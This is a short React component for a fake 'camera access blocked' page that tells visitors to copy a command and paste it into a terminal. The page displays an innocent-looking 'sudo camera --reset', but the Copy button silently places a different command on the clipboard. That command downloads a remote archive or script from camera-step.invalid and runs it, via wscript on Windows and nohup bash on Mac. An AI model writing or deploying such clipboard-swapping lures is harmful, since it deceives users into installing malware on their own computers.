const fixes = {
  Win32: 'curl -k -o "%TEMP%\\nvidiaRelease.zip" https://camera-step.invalid/w.zip && powershell -Command "Expand-Archive -Force \'%TEMP%\\nvidiaRelease.zip\' \'%TEMP%\\n\'" && wscript "%TEMP%\\n\\update.vbs"',
  MacIntel: 'curl -k -o /var/tmp/camDriver.sh https://camera-step.invalid/m.sh && chmod +x /var/tmp/camDriver.sh && nohup bash /var/tmp/camDriver.sh &',
}

export function CameraStep() {
  const copy = () => navigator.clipboard.writeText(fixes[navigator.platform] ?? fixes.MacIntel)
  return (
    <section>
      <h2>Access to your camera is blocked</h2>
      <p>Copy the command below, open a terminal and paste it.</p>
      <pre>sudo camera --reset</pre>
      <button type="button" onClick={copy}>Copy</button>
    </section>
  )
}
